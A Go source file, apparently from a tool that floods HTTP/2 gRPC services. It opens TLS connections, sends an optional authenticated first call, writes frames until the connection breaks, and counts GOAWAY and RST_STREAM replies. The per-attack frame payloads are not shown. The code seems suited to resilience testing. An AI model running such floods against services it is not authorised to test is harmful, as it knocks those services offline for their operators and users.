// Connections of HTTP/2 whose frames the floods write themselves.
package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const writeBytes = 32 * 1024

// A connection writes frames through a buffer. Another goroutine reads them.
type connection struct {
	*http2.Framer
	conn *tls.Conn
	out  *bufio.Writer
	// What the frame GOAWAY said, once it came.
	goAway string
}

// Opens a connection with the preface and these settings. Nil if that failed, which is counted.
func (f *flood) open(settings ...http2.Setting) *connection {
	conn := f.dialTLS(f.grpc, http2.NextProtoTLS)
	if conn == nil {
		return nil
	}
	out := bufio.NewWriterSize(conn, writeBytes)
	c := &connection{Framer: http2.NewFramer(out, bufio.NewReaderSize(conn, writeBytes)), conn: conn, out: out}
	_, err := out.WriteString(http2.ClientPreface)
	if err == nil {
		err = c.WriteSettings(settings...)
	}
	if err == nil {
		err = out.Flush()
	}
	if err != nil {
		f.closed(howEnded(err), conn)
		return nil
	}
	return c
}

// Reads frames until the connection ends, closes it and says how it ended.
func (c *connection) read(see func(http2.Frame)) string {
	defer c.conn.Close()
	for {
		frame, err := c.ReadFrame()
		if _, isOfStream := err.(http2.StreamError); isOfStream {
			continue
		}
		if err != nil && c.goAway != "" {
			return c.goAway
		}
		if err != nil {
			return howEnded(err)
		}
		if goAway, is := frame.(*http2.GoAwayFrame); is {
			c.goAway = "GOAWAY " + goAway.ErrCode.String()
			if text := goAway.DebugData(); len(text) > 0 {
				c.goAway += " (" + string(text) + ")"
			}
		}
		see(frame)
	}
}

// A way to flood connections of HTTP/2.
type attack struct {
	// Name of what is sent, in the plural.
	unit string
	// Returns what writes one of them.
	begin func(*connection) func() error
	// Whether nothing is read.
	deaf bool
	// Whether a call with the token comes first, and what follows waits for its answer.
	calls bool
	// Whether the service's SETTINGS are acknowledged before that call.
	acknowledges bool
}

// Keeps the attack's connections until the flood ends.
func (f *flood) attack(a attack) {
	f.keep(f.connectionsOr(frameConnections), func() {
		c := f.open()
		if c == nil {
			return
		}
		ended := make(chan string, 1)
		begins := make(chan struct{}, 1)
		if a.calls {
			f.callOnce(c, a.acknowledges)
		} else {
			begins <- struct{}{}
		}
		if !a.deaf {
			go func() {
				ended <- c.read(func(frame http2.Frame) { f.watch(frame, begins) })
				close(begins)
			}()
		}
		<-begins
		err := f.send(c, a)
		if a.deaf {
			// What is left to read tells how it ended.
			_ = c.conn.SetReadDeadline(time.Now().Add(time.Second))
			go func() { ended <- c.read(f.countResets) }()
		}
		how := <-ended
		if how == net.ErrClosed.Error() {
			how = howEnded(err)
		}
		f.closed(how, c.conn)
	})
}

// Writes until the connection breaks, or all is sent that may be.
func (f *flood) send(c *connection, a attack) error {
	var sent int64
	defer func() { f.add(a.unit, sent) }()
	for next := a.begin(c); f.most == 0 || sent < int64(f.most); sent++ {
		if err := next(); err != nil {
			return err
		}
	}
	return c.out.Flush()
}

// The call that makes the connection a caller's, on its first stream.
func (f *flood) callOnce(c *connection, acknowledges bool) {
	if acknowledges {
		_ = c.WriteSettingsAck()
	}
	headers := http2.HeadersFrameParam{StreamID: 1, BlockFragment: newBlocks(f).next(f.token), EndHeaders: true}
	_ = c.WriteHeaders(headers)
	_ = c.WriteData(1, true, f.message())
	_ = c.out.Flush()
}

// Counts resets, and lets the attack begin when its first call is answered.
func (f *flood) watch(frame http2.Frame, begins chan<- struct{}) {
	f.countResets(frame)
	if headers, is := frame.(*http2.HeadersFrame); is && headers.StreamID == 1 && headers.StreamEnded() {
		select {
		case begins <- struct{}{}:
		default:
		}
	}
}

func (f *flood) countResets(frame http2.Frame) {
	if reset, is := frame.(*http2.RSTStreamFrame); is {
		f.add("RST_STREAM "+reset.ErrCode.String(), 1)
	}
}

// Header blocks of calls of this connection.
type blocks struct {
	buffer  bytes.Buffer
	encoder *hpack.Encoder
	f       *flood
}

func newBlocks(f *flood) *blocks {
	b := &blocks{f: f}
	b.encoder = hpack.NewEncoder(&b.buffer)
	return b
}

// The block of a call with this token. It holds until the next.
func (b *blocks) next(token string) []byte {
	b.buffer.Reset()
	fields := [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":path", b.f.method}, {":authority", b.f.grpc},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	}
	for _, field := range fields {
		_ = b.encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	if token != "" {
		_ = b.encoder.WriteField(hpack.HeaderField{Name: "authorization", Value: "Bearer " + token})
	}
	return b.buffer.Bytes()
}

// The request of the options as a message of gRPC.
func (o *options) message() []byte {
	request, err := base64.StdEncoding.DecodeString(o.request)
	if err != nil {
		fail(err)
	}
	message := binary.BigEndian.AppendUint32([]byte{0}, uint32(len(request)))
	return append(message, request...)
}
